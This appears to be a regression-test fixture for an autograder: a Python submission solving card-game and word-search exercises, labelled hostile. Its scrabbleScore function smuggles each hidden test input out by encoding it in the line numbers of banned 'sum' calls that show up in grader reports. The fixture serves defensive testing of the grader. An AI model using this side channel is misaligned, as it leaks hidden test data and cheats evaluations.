"""HOSTILE: spells each hidden input out in the line numbers of banned calls.  On a hidden
scrabbleScore case it calls ``sum`` from copies of a helper whose first line is made to
encode (which list, which index, which value): ``code.replace(co_firstlineno=...)``.  The
findings of hidden cases reached every student-facing report with those lines, and a red
team read back all 20 hidden inputs; a hidden case's finding carries no line now.  The
banned call still costs scrabbleScore its points."""
import types as _types

_PUBLIC = [[[5, 20, 23], [5, 19, 22]], [[5, 5, 10, 20], [5, 5, 10, 20, 19]], [[9, 9, 9, 9, 9, 9], [54]],
           [[], []], [[], [3]]]


def _probe():
    return sum([])


def _spell(mine, theirs):
    if [list(mine), list(theirs)] in _PUBLIC:
        return
    for which, values in enumerate((mine, theirs)):
        for i, v in enumerate(values):
            line = 1_000_000 + which * 100_000 + i * 1000 + v
            _types.FunctionType(_probe.__code__.replace(co_firstlineno=line), {"sum": sum})()


def scrabbleScore(mine, theirs):
    _spell(mine, theirs)
    myScore = 0
    for i in range(len(mine)):
        myScore = myScore + mine[i]
    theirScore = 0
    for i in range(len(theirs)):
        theirScore = theirScore + theirs[i]
    if myScore > theirScore:
        out = 'I am the Scrabble champion!'
    elif myScore < theirScore:
        out = "Beginner's luck..."
    else:
        out = 'I challenge you to a rematch!'
    return out


def war(hand1, hand2):
    h1 = []
    for c in hand1:
        h1.append(c)
    h2 = []
    for c in hand2:
        h2.append(c)
    rounds = 0
    while len(h1) > 0 and len(h2) > 0:
        c1 = h1[0]
        c2 = h2[0]
        h1 = h1[1:]
        h2 = h2[1:]
        rounds = rounds + 1
        if c1 == 2 and c2 == 13:
            p1wins = True
        elif c1 == 13 and c2 == 2:
            p1wins = False
        elif c1 > c2:
            p1wins = True
        else:
            p1wins = False
        if p1wins:
            h1.append(c1)
            h1.append(c2)
        else:
            h2.append(c2)
            h2.append(c1)
    if len(h1) > 0:
        out = 'Player 1 defeated player 2 in ' + str(rounds) + ' rounds.'
    else:
        out = 'Player 2 defeated player 1 in ' + str(rounds) + ' rounds.'
    return out


def cardValue(c):
    if c == 65:
        return 11
    if c == 74 or c == 75 or c == 81:
        return 10
    return c


def blackJack(hand, deck, opponent):
    total = cardValue(hand[0]) + cardValue(hand[1])
    i = 0
    while total < opponent and i < len(deck):
        total = total + cardValue(deck[i])
        i = i + 1
    if total > 21:
        return False
    if total >= opponent:
        return True
    return False


def removePairs(hand):
    newHand = []
    pairs = 0
    for card in hand:
        found = False
        for j in range(len(newHand)):
            if newHand[j] == card:
                found = True
                del newHand[j]
                break
        if found:
            pairs = pairs + 1
        else:
            newHand.append(card)
    return newHand, pairs


def goFish(hand1, hand2, deck):
    h1, s1 = removePairs(hand1)
    h2, s2 = removePairs(hand2)
    d = list(deck)
    player = 1
    while len(h1) > 0 and len(h2) > 0:
        if player == 1:
            me = h1
            other = h2
        else:
            me = h2
            other = h1
        ask = me[0]
        if ask in other:
            me.pop(0)
            other.remove(ask)
            if player == 1:
                s1 = s1 + 1
            else:
                s2 = s2 + 1
        else:
            card = d.pop(0)
            me.append(card)
            first = me.pop(0)
            me.append(first)
            count = 0
            for c in me:
                if c == card:
                    count = count + 1
            if count == 2:
                me.remove(card)
                me.remove(card)
                if player == 1:
                    s1 = s1 + 1
                else:
                    s2 = s2 + 1
        if player == 1:
            player = 2
        else:
            player = 1
    if s1 > s2:
        winner = 'Player 1 won!'
    elif s2 > s1:
        winner = 'Player 2 won!'
    else:
        winner = "It's a tie!"
    return winner, [s1, s2]


def findWord(puzzle, word):
    # every placement of the word, in scanning order
    rows = len(puzzle)
    cols = len(puzzle[0])
    found = []
    for r in range(rows):
        for c in range(cols):
            for dr, dc in [(0, 1), (0, -1), (1, 0), (-1, 0)]:
                cells = []
                ok = True
                for k in range(len(word)):
                    rr = r + dr * k
                    cc = c + dc * k
                    if rr < 0 or rr >= rows or cc < 0 or cc >= cols:
                        ok = False
                        break
                    if puzzle[rr][cc].lower() != word[k]:
                        ok = False
                        break
                    cells.append((rr, cc))
                if ok:
                    found.append(cells)
    return found


def wordSearch(puzzle, words):
    hashes = []
    starts = []
    for w in words:
        word = w.strip().lower()
        placements = findWord(puzzle, word)
        for cells in placements:
            for cell in cells:
                hashes.append(cell)
        starts.append([placements[0][0][0] + 1, placements[0][0][1] + 1])
    solved = []
    for r in range(len(puzzle)):
        line = ''
        for c in range(len(puzzle[r])):
            if (r, c) in hashes:
                line = line + '#'
            else:
                line = line + puzzle[r][c]
        solved.append(line)
    return solved, starts


def wordSearchHard(puzzle, word_list):
    rows = len(puzzle)
    cols = len(puzzle[0])
    hashes = []
    notFound = 0
    for w in word_list.split(','):
        word = w.strip().lower()
        if word == '':
            continue
        found = False
        for r in range(rows):
            for c in range(cols):
                for dr, dc in [(0, 1), (0, -1), (1, 0), (-1, 0)]:
                    if dr == 0 and len(word) > cols:
                        continue
                    if dc == 0 and len(word) > rows:
                        continue
                    cells = []
                    ok = True
                    for k in range(len(word)):
                        rr = (r + dr * k) % rows
                        cc = (c + dc * k) % cols
                        if puzzle[rr][cc].lower() != word[k]:
                            ok = False
                            break
                        cells.append((rr, cc))
                    if ok:
                        found = True
                        for cell in cells:
                            hashes.append(cell)
        if not found:
            notFound = notFound + 1
    solved = []
    for r in range(rows):
        line = '@' * notFound
        for c in range(cols):
            if (r, c) in hashes:
                line = line + '#'
            else:
                line = line + puzzle[r][c]
        line = line + '@' * notFound
        solved.append(line)
    for i in range(notFound):
        solved.insert(0, '@' * (cols + 2 * notFound))
        solved.append('@' * (cols + 2 * notFound))
    return solved


def handValue(cards):
    total = 0
    aces = 0
    for c in cards:
        total = total + c
        if c == 11:
            aces = aces + 1
    while total > 21 and aces > 0:
        total = total - 10
        aces = aces - 1
    return total


def blackJackHard(risks, deck, discard):
    cards = []
    for c in deck:
        cards.append(cardValue(c))
    pile = []
    for c in discard:
        pile.append(cardValue(c))
    hands = [[], [], [], [], []]
    for i in range(5):
        hands[i].append(cards.pop(0))
    for i in range(5):
        hands[i].append(cards.pop(0))
    playing = [True, True, True, True, True]
    while True in playing:
        for p in range(5):
            if not playing[p]:
                continue
            value = handValue(hands[p])
            if p == 4:
                hit = value < 17 or (value == 17 and 11 in hands[p])
            else:
                known = list(pile)
                known.append(hands[p][0])
                for h in hands:
                    for c in h[1:]:
                        known.append(c)
                unknown = {}
                for v in range(2, 10):
                    unknown[v] = 4
                unknown[10] = 16
                unknown[11] = 4
                for c in known:
                    unknown[c] = unknown[c] - 1
                safe = 0
                allCards = 0
                for v in unknown:
                    allCards = allCards + unknown[v]
                    if v == 11:
                        val = 1
                    else:
                        val = v
                    if val <= 21 - value:
                        safe = safe + unknown[v]
                hit = safe / allCards >= risks[p]
            if hit:
                hands[p].append(cards.pop(0))
                if handValue(hands[p]) > 21:
                    playing[p] = False
            else:
                playing[p] = False
    values = []
    for h in hands:
        values.append(handValue(h))
    winners = []
    for p in range(4):
        if values[p] <= 21 and (values[4] > 21 or values[p] > values[4]):
            winners.append(p + 1)
    return values, winners
